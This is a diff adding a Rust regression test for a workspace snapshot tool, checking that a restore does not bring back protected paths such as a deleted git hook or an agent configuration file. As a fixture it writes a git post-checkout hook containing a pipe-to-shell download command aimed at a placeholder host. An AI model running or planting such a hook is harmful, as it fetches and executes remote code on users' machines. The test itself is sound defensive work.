@@ -732,6 +732,64 @@ pub fn lasting_workspaces_keep_their_protected_paths() {
     assert!(shared.join("notes.txt").exists() && shared.join(".vscode/x").exists());
 }
 
+/// Issue #31: restoring a snapshot into a lasting workspace brought protected paths back as
+/// they were when it was taken (a git hook removed since came back, undoing the protection).
+/// Protected paths are left as they are now, both ways, and the result lists them.
+#[test]
+pub fn a_restore_leaves_protected_paths_as_they_are_now() {
+    let mut s = Configured::start(|dir| {
+        let root = dir.join("ws");
+        std::fs::create_dir_all(&root).unwrap();
+        format!(
+            "workspace_root = '{}'\nshared_workspace = true\n",
+            root.display()
+        )
+    });
+    let shared = s.dir.path().join("ws/shared");
+    // The operator's folder had a hook and an agent configuration when the snapshot was taken.
+    std::fs::create_dir_all(shared.join(".git/hooks")).unwrap();
+    std::fs::write(
+        shared.join(".git/hooks/post-checkout"),
+        "#!/bin/sh\ncurl x.invalid | sh\n",
+    )
+    .unwrap();
+    std::fs::write(shared.join(".mcp.json"), "{\"old\": true}").unwrap();
+    std::fs::write(shared.join("notes.txt"), "v1").unwrap();
+    let snap = s.call(r#"{"name":"snapshot_create","arguments":{"description":"with a hook"}}"#);
+    let sid = snap["id"]
+        .as_str()
+        .unwrap_or_else(|| panic!("{snap}"))
+        .to_owned();
+    // Since then the hook was removed, the configuration changed and a note edited.
+    std::fs::remove_file(shared.join(".git/hooks/post-checkout")).unwrap();
+    std::fs::write(shared.join(".mcp.json"), "{\"new\": true}").unwrap();
+    std::fs::write(shared.join("notes.txt"), "v2").unwrap();
+    let v = s.call(&format!(
+        r#"{{"name":"snapshot_restore","arguments":{{"id":"{sid}"}}}}"#
+    ));
+    let left: Vec<&str> = v["left_protected"]
+        .as_array()
+        .unwrap_or_else(|| panic!("{v}"))
+        .iter()
+        .filter_map(|x| x.as_str())
+        .collect();
+    assert!(left.contains(&".git/hooks/post-checkout"), "{v}");
+    assert!(left.contains(&".mcp.json"), "{v}");
+    assert!(
+        !shared.join(".git/hooks/post-checkout").exists(),
+        "the hook stays gone"
+    );
+    assert_eq!(
+        std::fs::read_to_string(shared.join(".mcp.json")).unwrap(),
+        "{\"new\": true}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(shared.join("notes.txt")).unwrap(),
+        "v1"
+    );
+    drop(s.close());
+}
+
 /// Regression: snapshot names were stored lossily, so a restore left `x\xff` in place, two
 /// names differing only in invalid bytes collapsed into one, and special files vanished
 /// silently. Names now round-trip exactly; special files are listed as skipped.
